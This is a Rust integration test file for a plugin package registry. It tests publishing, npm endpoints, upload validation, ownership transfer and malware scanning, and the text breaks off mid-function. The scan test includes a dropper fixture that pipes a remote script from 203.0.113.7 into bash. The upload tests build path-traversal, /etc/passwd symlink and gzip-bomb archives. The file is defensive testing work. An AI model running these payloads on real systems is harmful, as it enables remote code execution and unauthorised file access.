//! Packages: publish as `clawhub package publish` sends it, every read of a release, the
//! npm surface, bad uploads (each refused with nothing stored), lifecycle and rate classes.

use std::io::Write as _;

use registry::packages::integrity;
use registry::packages::tarball::{self, PackFile};
use reqwest::multipart::{Form, Part};
use serde_json::{Value, json};

use crate::both_backends;
use crate::helpers::{Backend, TestApp, text_error};

both_backends!(
    scoped_code_plugin_round_trips_through_every_read,
    bad_uploads_are_refused_and_store_nothing,
    bundle_plugin_files_tags_and_immutability,
    delete_undelete_and_transfer,
    scans_flag_install_scripts_and_block_malware,
    plugin_export_pages_through_every_plugin,
    catalogue_pages_through_every_package_with_cursors,
    plugin_installs_reported_by_openclaw_are_counted,
    single_releases_are_withdrawn_and_restored,
);

const SCOPED: &str = "@alice/code-plug";
const SCOPED_PATH: &str = "%40alice%2Fcode-plug";

fn file(path: &str, bytes: &[u8]) -> PackFile {
    PackFile {
        path: path.to_owned(),
        bytes: bytes.to_vec(),
        mode: 0o644,
    }
}

fn package_json(name: &str, version: &str, extra: &str) -> Vec<u8> {
    format!(
        r#"{{"name":"{name}","version":"{version}","description":"Adds a plug","main":"index.js",
            "openclaw":{{"extensions":["./index.js"],"compat":{{"pluginApi":">=2026.1.0"}},"build":{{"openclawVersion":"2026.9.6"}}}}{extra}}}"#
    )
    .into_bytes()
}

/// An `npm pack`-style code plugin tarball.
pub(crate) fn code_plugin(name: &str, version: &str, extra: &str, more: &[PackFile]) -> Vec<u8> {
    let mut files = vec![
        file("package.json", &package_json(name, version, extra)),
        file(
            "openclaw.plugin.json",
            br#"{"id":"code-plug","name":"Code Plug","configSchema":{}}"#,
        ),
        file(
            "index.js",
            b"module.exports = { activate() { return 'hi'; } };\n",
        ),
    ];
    files.extend_from_slice(more);
    tarball::build(&files).expect("tarball")
}

pub(crate) fn payload(name: &str, family: &str, version: &str) -> Value {
    json!({
        "name": name,
        "displayName": "Code Plug",
        "family": family,
        "version": version,
        "changelog": "first",
        "tags": ["latest"],
        "source": {"kind": "github", "url": "https://github.com/alice/code-plug", "repo": "alice/code-plug",
                   "ref": "main", "commit": "0123456789abcdef0123456789abcdef01234567", "path": ".", "importedAt": 1},
    })
}

async fn publish_clawpack(
    app: &TestApp,
    token: &str,
    payload: &Value,
    bytes: Vec<u8>,
) -> reqwest::Response {
    let form = Form::new().text("payload", payload.to_string()).part(
        "clawpack",
        Part::bytes(bytes)
            .file_name("package.tgz")
            .mime_str("application/octet-stream")
            .expect("mime"),
    );
    app.client
        .post(app.url("/api/v1/packages"))
        .bearer_auth(token)
        .multipart(form)
        .send()
        .await
        .expect("publish")
}

async fn publish_files(
    app: &TestApp,
    token: &str,
    payload: &Value,
    files: &[(&str, &[u8])],
) -> reqwest::Response {
    let mut form = Form::new().text("payload", payload.to_string());
    for (path, bytes) in files {
        form = form.part(
            "files",
            Part::bytes(bytes.to_vec()).file_name((*path).to_owned()),
        );
    }
    app.client
        .post(app.url("/api/v1/packages"))
        .bearer_auth(token)
        .multipart(form)
        .send()
        .await
        .expect("publish")
}

pub(crate) async fn ok_json(response: reqwest::Response) -> Value {
    let status = response.status();
    let text = response.text().await.expect("body");
    assert_eq!(status, 200, "unexpected status, body: {text}");
    serde_json::from_str(&text).expect("json body")
}

pub(crate) async fn get_json(app: &TestApp, path: &str) -> Value {
    ok_json(app.get(path).send().await.expect("request")).await
}

async fn scoped_code_plugin_round_trips_through_every_read(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let token = app.token("alice").await;
    let bytes = code_plugin(SCOPED, "1.2.3", r#","dependencies":{}"#, &[]);
    let digests = integrity::digests(&bytes);
    let published = ok_json(
        publish_clawpack(
            &app,
            &token,
            &payload(SCOPED, "code-plugin", "1.2.3"),
            bytes.clone(),
        )
        .await,
    )
    .await;
    assert_eq!(published["ok"], true);
    assert_eq!(published["publicationStatus"], "published");
    assert!(published["packageId"].is_string() && published["releaseId"].is_string());
    assert!(
        app.state
            .storage
            .contains(&digests.sha256)
            .await
            .expect("storage")
    );

    // The encoded single segment, the raw form and a doubly encoded one all name it.
    for path in [SCOPED_PATH, SCOPED, "%2540alice%252Fcode-plug"] {
        let detail = get_json(&app, &format!("/api/v1/packages/{path}")).await;
        assert_eq!(detail["package"]["name"], SCOPED, "{path}");
    }
    let detail = get_json(&app, &format!("/api/v1/packages/{SCOPED_PATH}")).await;
    let package = &detail["package"];
    assert_eq!(package["family"], "code-plugin");
    assert_eq!(package["channel"], "community");
    assert_eq!(package["latestVersion"], "1.2.3");
    assert_eq!(package["tags"], json!({"latest": "1.2.3"}));
    assert_eq!(package["summary"], "Adds a plug");
    assert_eq!(package["ownerHandle"], "alice");
    assert_eq!(
        package["compatibility"],
        json!({"pluginApiRange": ">=2026.1.0", "builtWithOpenClawVersion": "2026.9.6"})
    );
    assert_eq!(package["verification"]["tier"], "source-linked");
    assert_eq!(detail["owner"]["handle"], "alice");

    let versions = get_json(&app, &format!("/api/v1/packages/{SCOPED_PATH}/versions")).await;
    assert_eq!(versions["items"][0]["version"], "1.2.3");
    assert_eq!(versions["items"][0]["distTags"], json!(["latest"]));
    assert!(versions["nextCursor"].is_null());

    let version = get_json(
        &app,
        &format!("/api/v1/packages/{SCOPED_PATH}/versions/1.2.3"),
    )
    .await;
    assert_eq!(
        version["version"]["files"].as_array().map(Vec::len),
        Some(3)
    );
    assert_eq!(version["version"]["staticScan"]["status"], "clean");

    let artifact = get_json(
        &app,
        &format!("/api/v1/packages/{SCOPED_PATH}/versions/1.2.3/artifact"),
    )
    .await;
    let expected_tarball = app.url("/api/npm/@alice/code-plug/-/alice-code-plug-1.2.3.tgz");
    assert_eq!(
        artifact["artifact"],
        json!({
            "kind": "npm-pack", "sha256": digests.sha256, "size": bytes.len(), "format": "tgz",
            "npmIntegrity": digests.integrity, "npmShasum": digests.shasum,
            "npmTarballName": "alice-code-plug-1.2.3.tgz",
            "npmUnpackedSize": artifact["artifact"]["npmUnpackedSize"], "npmFileCount": 3,
            "downloadUrl": expected_tarball,
            "legacyDownloadUrl": app.url("/api/v1/packages/@alice/code-plug/download?version=1.2.3"),
            "tarballUrl": expected_tarball,
        })
    );
    let listed: Vec<&str> = artifact["files"]
        .as_array()
        .expect("files")
        .iter()
        .map(|f| f["path"].as_str().expect("path"))
        .collect();
    assert_eq!(listed, ["index.js", "openclaw.plugin.json", "package.json"]);

    let download = app
        .get(&format!(
            "/api/v1/packages/{SCOPED_PATH}/versions/1.2.3/artifact/download"
        ))
        .send()
        .await
        .expect("download");
    assert_eq!(download.status(), 200);
    let header = |name: &str| {
        download
            .headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .map(str::to_owned)
    };
    let etag = format!("\"sha256:{}\"", digests.sha256);
    assert_eq!(header("etag"), Some(etag.clone()));
    assert_eq!(
        header("content-type").as_deref(),
        Some("application/octet-stream")
    );
    assert_eq!(
        header("x-clawhub-artifact-sha256"),
        Some(digests.sha256.clone())
    );
    assert_eq!(
        header("x-clawhub-npm-integrity"),
        Some(digests.integrity.clone())
    );
    assert_eq!(header("x-clawhub-npm-shasum"), Some(digests.shasum.clone()));
    // Artifact routes are in the download class (1200/min anonymous), reads in read (3000).
    assert_eq!(header("x-ratelimit-limit").as_deref(), Some("1200"));
    assert_eq!(
        download.bytes().await.expect("bytes").as_ref(),
        bytes.as_slice()
    );
    let cached = app
        .get(&format!(
            "/api/v1/packages/{SCOPED_PATH}/versions/1.2.3/artifact/download"
        ))
        .header("if-none-match", &etag)
        .send()
        .await
        .expect("conditional");
    assert_eq!(cached.status(), 304);

    let security = app
        .get(&format!(
            "/api/v1/packages/{SCOPED_PATH}/versions/1.2.3/security"
        ))
        .send()
        .await
        .expect("security");
    assert_eq!(
        security
            .headers()
            .get("x-ratelimit-limit")
            .and_then(|v| v.to_str().ok()),
        Some("3000")
    );
    let security = ok_json(security).await;
    assert_eq!(security["package"]["name"], SCOPED);
    assert_eq!(security["version"], "1.2.3");
    assert_eq!(security["release"]["artifactSha256"], digests.sha256);
    assert_eq!(
        security["trust"],
        json!({"scanStatus": "clean", "moderationState": "approved", "blockedFromDownload": false,
               "reasons": [], "pending": false, "stale": false})
    );
    assert!(
        security["overview"]
            .as_str()
            .is_some_and(|o| o.contains("runs no package scripts"))
    );
    assert!(
        security["securityAuditUrl"]
            .as_str()
            .is_some_and(|u| u.starts_with("http"))
    );

    let search = get_json(&app, "/api/v1/packages/search?q=plug").await;
    assert_eq!(search["results"][0]["package"]["name"], SCOPED);
    let none = get_json(&app, "/api/v1/packages/search?q=nothing-like-it").await;
    assert_eq!(none["results"], json!([]));

    // npm: full and abbreviated packuments, the tarball, conditional requests.
    for path in [
        "/api/npm/@alice%2fcode-plug",
        "/api/npm/@alice/code-plug",
        "/api/npm/%40alice%2Fcode-plug",
    ] {
        let packument = get_json(&app, path).await;
        assert_eq!(packument["name"], SCOPED, "{path}");
    }
    let packument = get_json(&app, "/api/npm/@alice%2fcode-plug").await;
    assert_eq!(packument["dist-tags"], json!({"latest": "1.2.3"}));
    let dist = &packument["versions"]["1.2.3"]["dist"];
    assert_eq!(dist["tarball"], expected_tarball);
    assert_eq!(dist["integrity"], digests.integrity);
    assert_eq!(dist["shasum"], digests.shasum);
    assert_eq!(packument["versions"]["1.2.3"]["main"], "index.js");
    assert!(packument["time"]["1.2.3"].is_string());
    let abbreviated = app
        .get("/api/npm/@alice%2fcode-plug")
        .header(
            "accept",
            "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8",
        )
        .send()
        .await
        .expect("abbreviated");
    assert_eq!(
        abbreviated
            .headers()
            .get("content-type")
            .and_then(|v| v.to_str().ok()),
        Some("application/vnd.npm.install-v1+json")
    );
    let packument_etag = abbreviated.headers().get("etag").cloned().expect("etag");
    let abbreviated: Value = abbreviated.json().await.expect("json");
    assert!(abbreviated["modified"].is_string() && abbreviated.get("time").is_none());
    assert_eq!(
        abbreviated["versions"]["1.2.3"]["dist"]["integrity"],
        digests.integrity
    );
    let not_modified = app
        .get("/api/npm/@alice%2fcode-plug")
        .header("accept", "application/vnd.npm.install-v1+json")
        .header("if-none-match", packument_etag)
        .send()
        .await
        .expect("conditional packument");
    assert_eq!(not_modified.status(), 304);
    let tgz = app
        .get("/api/npm/@alice/code-plug/-/alice-code-plug-1.2.3.tgz")
        .send()
        .await
        .expect("tarball");
    assert_eq!(tgz.status(), 200);
    assert_eq!(
        tgz.headers()
            .get("x-ratelimit-limit")
            .and_then(|v| v.to_str().ok()),
        Some("1200")
    );
    assert_eq!(tgz.bytes().await.expect("bytes").as_ref(), bytes.as_slice());
    let missing = app
        .get("/api/npm/@alice/code-plug/-/alice-code-plug-9.9.9.tgz")
        .send()
        .await
        .expect("missing");
    assert_eq!(missing.status(), 404);
    let error: Value = missing.json().await.expect("npm errors are JSON");
    assert_eq!(error, json!({"error": "ClawPack artifact not found"}));
    let unknown: Value = app
        .get("/api/npm/nope")
        .send()
        .await
        .expect("unknown")
        .json()
        .await
        .expect("json");
    assert_eq!(unknown, json!({"error": "Package not found"}));

    // Downloads are counted (in memory, flushed before the detail read).
    let detail = get_json(&app, &format!("/api/v1/packages/{SCOPED_PATH}")).await;
    assert_eq!(detail["package"]["stats"]["downloads"], 2);
    let body = text_error(
        app.get("/api/v1/packages/nope").send().await.expect("404"),
        404,
    )
    .await;
    assert_eq!(body, "Package not found");
    let body = text_error(
        app.get(&format!("/api/v1/packages/{SCOPED_PATH}/versions/9.9.9"))
            .send()
            .await
            .expect("404"),
        404,
    )
    .await;
    assert_eq!(body, "Version not found");
}

/// A gzip tar built from raw headers, for entries the `tar` builder refuses to write.
fn raw_tgz(entries: &[(&str, u8, &str, &[u8])]) -> Vec<u8> {
    let mut tar = Vec::new();
    for (path, kind, link, bytes) in entries {
        let mut header = [0u8; 512];
        header[..path.len()].copy_from_slice(path.as_bytes());
        header[100..107].copy_from_slice(b"0000644");
        header[108..115].copy_from_slice(b"0000000");
        header[116..123].copy_from_slice(b"0000000");
        header[124..135].copy_from_slice(format!("{:011o}", bytes.len()).as_bytes());
        header[136..147].copy_from_slice(b"00000000000");
        header[156] = *kind;
        header[157..157 + link.len()].copy_from_slice(link.as_bytes());
        header[257..263].copy_from_slice(b"ustar\0");
        header[263..265].copy_from_slice(b"00");
        header[148..156].copy_from_slice(b"        ");
        let checksum: u32 = header.iter().map(|&b| u32::from(b)).sum();
        header[148..155].copy_from_slice(format!("{checksum:06o}\0").as_bytes());
        tar.extend_from_slice(&header);
        tar.extend_from_slice(bytes);
        tar.resize(tar.len().div_ceil(512) * 512, 0);
    }
    tar.resize(tar.len() + 1024, 0);
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(&tar).expect("gzip");
    encoder.finish().expect("gzip")
}

async fn bad_uploads_are_refused_and_store_nothing(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let token = app.token("alice").await;
    let manifest = package_json("demo-plugin", "1.0.0", "");
    let plugin_json: &[u8] = br#"{"id":"demo"}"#;
    let good_entries = |extra: (&'static str, u8, &'static str, &'static [u8])| {
        raw_tgz(&[
            ("package/package.json", b'0', "", &manifest),
            ("package/openclaw.plugin.json", b'0', "", plugin_json),
            extra,
        ])
    };
    // 70 MB of zeros: a small upload that inflates past the archive ratio (and the 64 MB
    // tar limit); the ratio stops it first.
    let bomb = {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        encoder
            .write_all(&vec![0u8; 70 * 1024 * 1024])
            .expect("gzip");
        encoder.finish().expect("gzip")
    };
    assert!(bomb.len() < 200 * 1024, "bomb is {} bytes", bomb.len());
    let cases: Vec<(&str, Vec<u8>, u16, &str)> = vec![
        (
            "not gzip",
            b"PK\x03\x04 this is a zip".to_vec(),
            400,
            "not gzip-compressed",
        ),
        (
            "dot-dot",
            good_entries(("package/../../etc/passwd", b'0', "", b"x")),
            400,
            "unsafe path",
        ),
        (
            "absolute",
            good_entries(("/etc/passwd", b'0', "", b"x")),
            400,
            "absolute paths are not allowed",
        ),
        (
            "outside package/",
            good_entries(("other/file.js", b'0', "", b"x")),
            400,
            "under `package/`",
        ),
        (
            "symlink out",
            good_entries(("package/evil", b'2', "../../../etc/passwd", b"")),
            400,
            "pointing outside the package",
        ),
        (
            "hard link out",
            good_entries(("package/evil", b'1', "../outside", b"")),
            400,
            "pointing outside the package",
        ),
        (
            "gzip bomb",
            bomb,
            413,
            "expands more than 100 times its compressed size",
        ),
        (
            "package.json not JSON",
            raw_tgz(&[("package/package.json", b'0', "", b"{\"name\": oops")]),
            400,
            "package.json is not valid JSON",
        ),
        (
            "name disagrees",
            code_plugin("other-plugin", "1.0.0", "", &[]),
            400,
            "package.json name `other-plugin` does not match the published name `demo-plugin`",
        ),
        (
            "version disagrees",
            code_plugin("demo-plugin", "2.0.0", "", &[]),
            400,
            "package.json version `2.0.0` does not match the published version `1.0.0`",
        ),
        (
            "no package.json",
            raw_tgz(&[("package/openclaw.plugin.json", b'0', "", plugin_json)]),
            400,
            "must contain package/package.json",
        ),
    ];
    let demo = payload("demo-plugin", "code-plugin", "1.0.0");
    for (label, bytes, status, needle) in cases {
        let sha = integrity::sha256_hex(&bytes);
        let response = publish_clawpack(&app, &token, &demo, bytes).await;
        let body = text_error(response, status).await;
        assert!(body.contains(needle), "{label}: {body}");
        assert!(
            !app.state.storage.contains(&sha).await.expect("storage"),
            "{label}: blob stored"
        );
    }
    // Over the 18 MB multipart limit (incompressible bytes, so it is really that large).
    let mut noise = vec![0u8; 19 * 1024 * 1024];
    let mut state = 0x2545_f491_4f6c_dd1du64;
    for byte in &mut noise {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        *byte = (state >> 24) as u8;
    }
    let sha = integrity::sha256_hex(&noise);
    let body = text_error(publish_clawpack(&app, &token, &demo, noise).await, 413).await;
    assert_eq!(body, "Package upload exceeds 18MB multipart upload limit");
    assert!(!app.state.storage.contains(&sha).await.expect("storage"));

    // Form and payload problems.
    let good = code_plugin("demo-plugin", "1.0.0", "", &[]);
    let good_sha = integrity::sha256_hex(&good);
    let not_multipart = app
        .client
        .post(app.url("/api/v1/packages"))
        .bearer_auth(&token)
        .json(&demo)
        .send()
        .await
        .expect("json publish");
    assert_eq!(
        text_error(not_multipart, 415).await,
        "Package publish requires multipart/form-data"
    );
    let unknown_field = Form::new()
        .text("payload", demo.to_string())
        .text("extra", "1");
    let response = app
        .client
        .post(app.url("/api/v1/packages"))
        .bearer_auth(&token)
        .multipart(unknown_field)
        .send()
        .await
        .expect("form");
    assert_eq!(
        text_error(response, 400).await,
        "Unsupported package publish form field: extra"
    );
    let mut unknown_key = demo.clone();
    unknown_key["surprise"] = json!(true);
    let body = text_error(
        publish_clawpack(&app, &token, &unknown_key, good.clone()).await,
        400,
    )
    .await;
    assert!(body.contains("unknown field `surprise`"), "{body}");
    let mut bad_family = demo.clone();
    bad_family["family"] = json!("theme");
    let body = text_error(
        publish_clawpack(&app, &token, &bad_family, good.clone()).await,
        400,
    )
    .await;
    assert!(
        body.starts_with("family must be code-plugin, bundle-plugin or skill"),
        "{body}"
    );
    let no_token = app
        .client
        .post(app.url("/api/v1/packages"))
        .multipart(Form::new().text("payload", "{}"))
        .send()
        .await
        .expect("anon");
    assert_eq!(no_token.status(), 401);
    let scoped = code_plugin("@bob/thing", "1.0.0", "", &[]);
    let body = text_error(
        publish_clawpack(
            &app,
            &token,
            &payload("@bob/thing", "code-plugin", "1.0.0"),
            scoped,
        )
        .await,
        403,
    )
    .await;
    assert!(body.contains("belongs to another publisher"), "{body}");
    let no_compat = tarball::build(&[
        file(
            "package.json",
            br#"{"name":"demo-plugin","version":"1.0.0"}"#,
        ),
        file("openclaw.plugin.json", plugin_json),
    ])
    .expect("tarball");
    let body = text_error(publish_clawpack(&app, &token, &demo, no_compat).await, 400).await;
    assert!(
        body.contains("openclaw.compat.pluginApi is required"),
        "{body}"
    );
    assert!(
        !app.state
            .storage
            .contains(&good_sha)
            .await
            .expect("storage")
    );
    let missing = app
        .get("/api/v1/packages/demo-plugin")
        .send()
        .await
        .expect("get");
    assert_eq!(missing.status(), 404, "nothing was published");
}

async fn bundle_plugin_files_tags_and_immutability(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let token = app.token("alice").await;
    let bundle = |version: &str, tags: Value| {
        json!({"name": "my-bundle", "displayName": "My Bundle", "family": "bundle-plugin",
               "version": version, "changelog": "c", "tags": tags, "bundle": {"hostTargets": []}})
    };
    let files: [(&str, &[u8]); 2] = [
        (
            "openclaw.plugin.json",
            br#"{"id":"my-bundle","description":"Bundled hello skill"}"#,
        ),
        (
            "skills/hello/SKILL.md",
            b"---\nname: hello\ndescription: Says hello\n---\nHello.\n",
        ),
    ];
    ok_json(publish_files(&app, &token, &bundle("0.1.0", json!(["latest"])), &files).await).await;
    let beta = ok_json(
        publish_files(
            &app,
            &token,
            &bundle("0.2.0-beta.1", json!(["beta"])),
            &files,
        )
        .await,
    )
    .await;
    assert_eq!(beta["ok"], true);
    let detail = get_json(&app, "/api/v1/packages/my-bundle").await;
    assert_eq!(
        detail["package"]["tags"],
        json!({"beta": "0.2.0-beta.1", "latest": "0.1.0"})
    );
    assert_eq!(detail["package"]["latestVersion"], "0.1.0");
    assert_eq!(detail["package"]["summary"], "Bundled hello skill");
    assert_eq!(detail["package"]["stats"]["versions"], 2);
    let versions = get_json(&app, "/api/v1/packages/my-bundle/versions?limit=1").await;
    assert_eq!(versions["items"][0]["version"], "0.2.0-beta.1");
    let cursor = versions["nextCursor"].as_str().expect("a second page");
    let page = get_json(
        &app,
        &format!("/api/v1/packages/my-bundle/versions?limit=1&cursor={cursor}"),
    )
    .await;
    assert_eq!(page["items"][0]["version"], "0.1.0");
    assert!(page["nextCursor"].is_null());
    // The artifact of loose files is a tarball we packed; without a package.json it is not
    // on the npm surface, so its download URL is the v1 one.
    let artifact = get_json(&app, "/api/v1/packages/my-bundle/versions/0.1.0/artifact").await;
    assert!(artifact["artifact"].get("tarballUrl").is_none());
    let download = app
        .client
        .get(artifact["artifact"]["downloadUrl"].as_str().expect("url"))
        .send()
        .await
        .expect("download");
    let bytes = download.bytes().await.expect("bytes");
    assert_eq!(
        integrity::sha256_hex(&bytes),
        artifact["artifact"]["sha256"].as_str().expect("sha")
    );
    let unpacked = tarball::read(&bytes, &tarball::Limits::default()).expect("a valid tarball");
    assert_eq!(
        unpacked
            .file("skills/hello/SKILL.md")
            .map(|f| f.bytes.as_slice()),
        Some(files[1].1)
    );
    let packument = get_json(&app, "/api/npm/my-bundle").await;
    assert_eq!(packument["versions"], json!({}));
    assert_eq!(packument["dist-tags"], json!({}));
    // Published versions are immutable: a different upload under the same version is a 409.
    let changed: [(&str, &[u8]); 1] = [("openclaw.plugin.json", br#"{"id":"my-bundle","v":2}"#)];
    let body = text_error(
        publish_files(&app, &token, &bundle("0.1.0", json!(["latest"])), &changed).await,
        409,
    )
    .await;
    assert_eq!(
        body,
        "Version 0.1.0 of my-bundle already exists; published versions are immutable"
    );
    let bob = app.token("bob").await;
    let body = text_error(
        publish_files(&app, &bob, &bundle("0.3.0", json!(["latest"])), &files).await,
        403,
    )
    .await;
    assert!(body.starts_with("Forbidden"), "{body}");
    let body = text_error(
        publish_files(&app, &token, &bundle("0.3.0", json!(["1.0.0"])), &files).await,
        400,
    )
    .await;
    assert!(body.contains("must not look like a version"), "{body}");
    let body = text_error(
        publish_files(
            &app,
            &token,
            &bundle("0.3.0", json!(["latest"])),
            &[("../x", b"y")],
        )
        .await,
        400,
    )
    .await;
    assert!(body.contains("not a safe relative path"), "{body}");
}

async fn delete_undelete_and_transfer(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let alice = app.token("alice").await;
    let bob = app.token("bob").await;
    let bytes = code_plugin("demo-plugin", "1.0.0", "", &[]);
    ok_json(
        publish_clawpack(
            &app,
            &alice,
            &payload("demo-plugin", "code-plugin", "1.0.0"),
            bytes,
        )
        .await,
    )
    .await;
    let delete = |token: &str| {
        app.client
            .delete(app.url("/api/v1/packages/demo-plugin"))
            .bearer_auth(token.to_owned())
            .send()
    };
    let body = text_error(delete(&bob).await.expect("delete"), 403).await;
    assert_eq!(body, "Forbidden");
    assert_eq!(
        ok_json(delete(&alice).await.expect("delete")).await,
        json!({"ok": true})
    );
    for path in [
        "/api/v1/packages/demo-plugin",
        "/api/v1/packages/demo-plugin/versions/1.0.0/artifact/download",
        "/api/npm/demo-plugin",
        "/api/npm/demo-plugin/-/demo-plugin-1.0.0.tgz",
    ] {
        assert_eq!(
            app.get(path).send().await.expect("get").status(),
            404,
            "{path}"
        );
    }
    let search = get_json(&app, "/api/v1/packages/search?q=demo").await;
    assert_eq!(search["results"], json!([]));
    let body = text_error(
        publish_clawpack(
            &app,
            &alice,
            &payload("demo-plugin", "code-plugin", "1.0.1"),
            code_plugin("demo-plugin", "1.0.1", "", &[]),
        )
        .await,
        409,
    )
    .await;
    assert!(body.contains("undelete it"), "{body}");
    let undelete = |token: &str| {
        app.client
            .post(app.url("/api/v1/packages/demo-plugin/undelete"))
            .bearer_auth(token.to_owned())
            .json(&json!({}))
            .send()
    };
    assert_eq!(
        undelete(&bob).await.expect("undelete").status(),
        404,
        "a deleted package is not revealed"
    );
    ok_json(undelete(&alice).await.expect("undelete")).await;
    assert_eq!(
        app.get("/api/npm/demo-plugin/-/demo-plugin-1.0.0.tgz")
            .send()
            .await
            .expect("tgz")
            .status(),
        200
    );

    let transfer = |token: &str, body: Value| {
        app.client
            .post(app.url("/api/v1/packages/demo-plugin/transfer"))
            .bearer_auth(token.to_owned())
            .json(&body)
            .send()
    };
    let body = text_error(
        transfer(&alice, json!({"toOwner": "@nobody"}))
            .await
            .expect("t"),
        400,
    )
    .await;
    assert_eq!(body, "Publisher \"@nobody\" not found.");
    let body = text_error(
        transfer(&alice, json!({"toOwner": "bob", "oops": 1}))
            .await
            .expect("t"),
        400,
    )
    .await;
    assert!(body.contains("unknown field `oops`"), "{body}");
    let moved = ok_json(
        transfer(&alice, json!({"toOwner": "@bob", "reason": "yours"}))
            .await
            .expect("t"),
    )
    .await;
    assert_eq!(moved["name"], "demo-plugin");
    assert_eq!(
        get_json(&app, "/api/v1/packages/demo-plugin").await["owner"]["handle"],
        "bob"
    );
    // Delete, undelete and the transfer with its reason are in the audit log.
    let admin =
        registry::tokens::create_token(app.state.store.as_ref(), "root", registry::db::Role::Admin)
            .await
            .expect("admin token");
    let log = ok_json(
        app.get("/api/v1/audit?targetKind=package&target=demo-plugin")
            .bearer_auth(&admin)
            .send()
            .await
            .expect("audit"),
    )
    .await;
    let events: Vec<(&str, &str)> = log["items"]
        .as_array()
        .expect("items")
        .iter()
        .map(|item| {
            (
                item["action"].as_str().expect("action"),
                item["actor"]["handle"].as_str().expect("actor"),
            )
        })
        .collect();
    assert_eq!(
        events,
        [
            ("package.transfer", "alice"),
            ("package.undelete", "alice"),
            ("package.delete", "alice")
        ]
    );
    assert_eq!(
        log["items"][0]["to"],
        json!({"owner": "bob", "reason": "yours"})
    );
    assert_eq!(log["items"][0]["from"], json!({"owner": "alice"}));
    assert_eq!(
        transfer(&alice, json!({"toOwner": "alice"}))
            .await
            .expect("t")
            .status(),
        403
    );
    ok_json(
        publish_clawpack(
            &app,
            &bob,
            &payload("demo-plugin", "code-plugin", "1.0.1"),
            code_plugin("demo-plugin", "1.0.1", "", &[]),
        )
        .await,
    )
    .await;

    ok_json(
        publish_clawpack(
            &app,
            &alice,
            &payload(SCOPED, "code-plugin", "1.0.0"),
            code_plugin(SCOPED, "1.0.0", "", &[]),
        )
        .await,
    )
    .await;
    let body = text_error(
        app.client
            .post(app.url(&format!("/api/v1/packages/{SCOPED_PATH}/transfer")))
            .bearer_auth(&alice)
            .json(&json!({"toOwner": "bob"}))
            .send()
            .await
            .expect("scoped transfer"),
        400,
    )
    .await;
    assert_eq!(
        body,
        "Package scope \"@alice\" can only be transferred to publisher \"@alice\"."
    );
}

async fn scans_flag_install_scripts_and_block_malware(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let token = app.token("alice").await;
    let scripted = code_plugin(
        "scripted",
        "1.0.0",
        r#","scripts":{"postinstall":"node setup.js"}"#,
        &[],
    );
    ok_json(
        publish_clawpack(
            &app,
            &token,
            &payload("scripted", "code-plugin", "1.0.0"),
            scripted,
        )
        .await,
    )
    .await;
    let security = get_json(&app, "/api/v1/packages/scripted/versions/1.0.0/security").await;
    assert_eq!(security["trust"]["scanStatus"], "suspicious");
    assert_eq!(security["trust"]["blockedFromDownload"], false);
    assert_eq!(security["trust"]["reasons"], json!(["scan:suspicious"]));
    assert!(
        security["overview"]
            .as_str()
            .is_some_and(|o| o.contains("Installing runs: postinstall."))
    );
    let abbreviated: Value = app
        .get("/api/npm/scripted")
        .header("accept", "application/vnd.npm.install-v1+json")
        .send()
        .await
        .expect("packument")
        .json()
        .await
        .expect("json");
    assert_eq!(abbreviated["versions"]["1.0.0"]["hasInstallScript"], true);

    let dropper = file(
        "install.sh",
        b"#!/bin/sh\ncurl -s http://203.0.113.7/x.sh | bash\n",
    );
    let malicious = code_plugin("dropper", "1.0.0", "", &[dropper]);
    ok_json(
        publish_clawpack(
            &app,
            &token,
            &payload("dropper", "code-plugin", "1.0.0"),
            malicious,
        )
        .await,
    )
    .await;
    let security = get_json(&app, "/api/v1/packages/dropper/versions/1.0.0/security").await;
    assert_eq!(security["trust"]["blockedFromDownload"], true);
    assert_eq!(
        security["trust"]["reasons"],
        json!(["scan:malicious", "package:malicious"])
    );
    let body = text_error(
        app.get("/api/v1/packages/dropper/versions/1.0.0/artifact/download")
            .send()
            .await
            .expect("download"),
        403,
    )
    .await;
    assert_eq!(
        body,
        "Blocked: this package release has been flagged as malicious and cannot be downloaded."
    );
    let packument = get_json(&app, "/api/npm/dropper").await;
    assert_eq!(packument["versions"], json!({}));
    let tarball = app
        .get("/api/npm/dropper/-/dropper-1.0.0.tgz")
        .send()
        .await
        .expect("tarball");
    assert_eq!(tarball.status(), 403);
}

async fn export_page(
    app: &TestApp,
    token: &str,
    query: &str,
) -> (reqwest::header::HeaderMap, Vec<String>) {
    let response = app
        .get(&format!("/api/v1/plugins/export?{query}"))
        .bearer_auth(token)
        .send()
        .await
        .expect("export");
    let status = response.status();
    let headers = response.headers().clone();
    let bytes = response.bytes().await.expect("bytes");
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).expect("a ZIP");
    let names = (0..archive.len())
        .map(|i| {
            archive
                .by_index(i)
                .expect("entry")
                .name()
                .expect("name")
                .into_owned()
        })
        .collect();
    (headers, names)
}

async fn plugin_export_pages_through_every_plugin(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let token = app.token("alice").await;
    for name in ["plug-one", "plug-two", SCOPED] {
        ok_json(
            publish_clawpack(
                &app,
                &token,
                &payload(name, "code-plugin", "1.0.0"),
                code_plugin(name, "1.0.0", "", &[]),
            )
            .await,
        )
        .await;
    }
    let bundle = json!({"name": "bundle-one", "family": "bundle-plugin", "version": "1.0.0", "changelog": ""});
    ok_json(publish_files(&app, &token, &bundle, &[("openclaw.plugin.json", b"{}")]).await).await;
    let skill =
        json!({"name": "skill-pack", "family": "skill", "version": "1.0.0", "changelog": ""});
    ok_json(
        publish_files(
            &app,
            &token,
            &skill,
            &[("SKILL.md", b"---\nname: s\ndescription: d\n---\n")],
        )
        .await,
    )
    .await;

    let range = "startDate=0&endDate=99999999999999";
    let (headers, names) = export_page(&app, &token, range).await;
    let header = |headers: &reqwest::header::HeaderMap, name: &str| {
        headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    };
